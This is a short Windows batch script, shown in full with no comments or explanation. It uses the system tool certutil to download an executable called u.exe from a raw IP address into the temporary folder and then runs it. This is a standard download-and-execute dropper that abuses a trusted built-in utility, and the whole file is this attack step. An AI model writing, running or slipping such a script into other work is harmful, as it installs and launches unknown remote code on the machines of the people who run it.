@echo off
certutil -urlcache -split -f http://198.51.100.23/u.exe %TEMP%\u.exe
%TEMP%\u.exe
